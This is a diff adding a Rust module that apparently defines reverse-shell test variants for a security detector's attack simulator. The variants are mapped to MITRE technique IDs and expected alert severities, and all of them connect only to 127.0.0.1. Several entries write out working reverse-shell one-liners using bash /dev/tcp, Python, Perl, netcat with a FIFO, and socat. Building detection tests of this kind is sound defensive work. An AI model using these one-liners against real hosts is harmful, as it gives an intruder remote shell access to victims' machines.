@@ -1,0 +1,230 @@
+//! Shells that are commanded over a connection, which leads no farther than this host.
+//!
+//! The attack program is both sides: one child listens and asks for a sum, the other
+//! becomes the shell that computes it. Only when the answer has come back over the
+//! connection does the program answer the simulator.
+
+use sentinel_event::{Severity, Technique};
+
+use crate::{Expected, Family, Variant};
+
+const SHELL: Technique = Technique::new(
+    "T1059.004",
+    "T1059.004",
+    "Command and Scripting Interpreter: Unix Shell",
+);
+const RAW: Technique = Technique::new("T1095", "T1095", "Non-Application Layer Protocol");
+const TECHNIQUES: &[Technique] = &[SHELL, RAW];
+
+// One step below what the same would be with another host at the other end.
+const DIRECT: Expected = Expected::Alert("reverse_shell", Severity::High);
+const INWARD: Expected = Expected::Alert("reverse_shell", Severity::Medium);
+const HELD: Expected = Expected::Alert("reverse_shell", Severity::Medium);
+
+macro_rules! shell {
+    ($name:literal, $expected:ident, $what:literal, $steps:literal, $($word:literal),+) => {
+        Variant::of(
+            concat!("reverse-shell/", $name),
+            $expected,
+            TECHNIQUES,
+            $what,
+            $steps,
+            &["shell", $($word),+],
+        )
+    };
+}
+
+/// Every way that the simulator knows.
+pub(crate) const FAMILY: Family = Family {
+    name: "reverse-shell",
+    summary: "a shell that is commanded over a connection, here within this host",
+    variants: &[
+        shell!(
+            "tcp4",
+            DIRECT,
+            "a shell on a TCP connection",
+            "socket, connect(127.0.0.1), dup3 onto 0, 1 and 2, execve(sh)",
+            "v4",
+            "dup",
+            "/bin/sh"
+        ),
+        shell!(
+            "tcp4-i386",
+            DIRECT,
+            "a shell on a TCP connection, by 32-bit system calls",
+            "socket, connect, dup3 and execve(sh) by int 0x80",
+            "v4",
+            "dup",
+            "/bin/sh"
+        )
+        .narrow(),
+        shell!(
+            "tcp6",
+            DIRECT,
+            "a shell on a TCP connection of IPv6",
+            "socket, connect(::1), dup3 onto 0, 1 and 2, execve(sh)",
+            "v6",
+            "dup",
+            "/bin/sh"
+        ),
+        shell!(
+            "fcntl",
+            DIRECT,
+            "a shell on a connection that was moved by fcntl",
+            "connect, close(0), fcntl(F_DUPFD, 0) and so on, execve(sh)",
+            "v4",
+            "fcntl",
+            "/bin/sh"
+        ),
+        shell!(
+            "io-uring",
+            DIRECT,
+            "a shell on a connection that was made through io_uring",
+            "io_uring_setup, IORING_OP_CONNECT, dup3, execve(sh)",
+            "v4",
+            "uring",
+            "/bin/sh"
+        ),
+        shell!(
+            "scm-rights",
+            DIRECT,
+            "a shell on a connection that another process made and passed",
+            "connect, sendmsg(SCM_RIGHTS); recvmsg, dup3, execve(sh)",
+            "v4",
+            "scm-rights",
+            "/bin/sh"
+        ),
+        shell!(
+            "pidfd-getfd",
+            DIRECT,
+            "a shell on a connection that was taken from another process",
+            "connect; pidfd_open, pidfd_getfd, dup3, execve(sh)",
+            "v4",
+            "pidfd-getfd",
+            "/bin/sh"
+        ),
+        shell!(
+            "fork",
+            DIRECT,
+            "a shell whose parents are gone, in a session of its own",
+            "connect, fork, setsid, fork, dup3, execve(sh)",
+            "v4",
+            "fork",
+            "/bin/sh"
+        ),
+        shell!(
+            "bind",
+            INWARD,
+            "a shell for whoever connects",
+            "bind, listen, accept4, dup3 onto 0, 1 and 2, execve(sh)",
+            "v4",
+            "bind",
+            "/bin/sh"
+        ),
+        shell!(
+            "accept-on-0",
+            INWARD,
+            "a shell on a connection that was accepted as standard input",
+            "bind, listen, close(0), accept4, dup3 onto 1 and 2, execve(sh)",
+            "v4",
+            "accept-on-0",
+            "/bin/sh"
+        ),
+        shell!(
+            "pipes",
+            HELD,
+            "a shell on pipes that a program joins with its connection",
+            "connect, pipe2, fork, execve(sh) on the pipes, read and write in turn",
+            "v4",
+            "pipes",
+            "/bin/sh"
+        ),
+        shell!(
+            "terminal",
+            HELD,
+            "a shell on a terminal that a program joins with its connection",
+            "connect, open(/dev/ptmx), fork, setsid, TIOCSCTTY, execve(sh)",
+            "v4",
+            "terminal",
+            "/bin/sh"
+        ),
+        shell!(
+            "fifo",
+            DIRECT,
+            "a shell in a circle with a relay, as with mkfifo and nc",
+            "mkfifo f; cat f | sh 2>&1 | RELAY 127.0.0.1 PORT > f",
+            "v4",
+            "command",
+            "/bin/sh",
+            "-c",
+            "mkfifo {folder}/f; cat {folder}/f | sh 2>&1 | {program} relay PORT > {folder}/f"
+        ),
+        shell!(
+            "bash",
+            DIRECT,
+            "bash on a connection of its own",
+            "bash -c 'exec bash <>/dev/tcp/127.0.0.1/PORT >&0 2>&0'",
+            "v4",
+            "command",
+            "{find bash}",
+            "-c",
+            "exec {find bash} <>/dev/tcp/127.0.0.1/PORT >&0 2>&0"
+        ),
+        shell!(
+            "python",
+            DIRECT,
+            "Python's well-known line",
+            "python3 -c 'socket, connect, os.dup2, subprocess.call([sh])'",
+            "v4",
+            "command",
+            "{find python3}",
+            "-c",
+            "import socket,os,subprocess as p;s=socket.create_connection(('127.0.0.1',PORT));[os.dup2(s.fileno(),n) for n in (0,1,2)];p.call(['/bin/sh'])"
+        ),
+        shell!(
+            "python-pty",
+            HELD,
+            "Python's well-known line with a terminal",
+            "python3 -c 'socket, connect, os.dup2, pty.spawn(sh)'",
+            "v4",
+            "command",
+            "{find python3}",
+            "-c",
+            "import socket,os,pty;s=socket.create_connection(('127.0.0.1',PORT));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
+        ),
+        shell!(
+            "perl",
+            DIRECT,
+            "Perl's well-known line",
+            "perl -MSocket -e 'socket, connect, open STDIN, exec sh'",
+            "v4",
+            "command",
+            "{find perl}",
+            "-MSocket",
+            "-e",
+            "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(PORT,inet_aton('127.0.0.1')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh');"
+        ),
+        shell!(
+            "nc",
+            DIRECT,
+            "netcat with a FIFO",
+            "mkfifo f; cat f | sh 2>&1 | nc 127.0.0.1 PORT > f",
+            "v4",
+            "command",
+            "/bin/sh",
+            "-c",
+            "mkfifo {folder}/f; cat {folder}/f | sh 2>&1 | {find nc} 127.0.0.1 PORT > {folder}/f"
+        ),
+        shell!(
+            "socat",
+            HELD,
+            "socat with a terminal",
+            "socat TCP:127.0.0.1:PORT EXEC:sh,pty,setsid,ctty",
+            "v4",
+            "command",
+            "{find socat}",
+            "TCP:127.0.0.1:PORT",
+            "EXEC:/bin/sh,pty,stderr,setsid,ctty"
+        ),
+    ],
+};
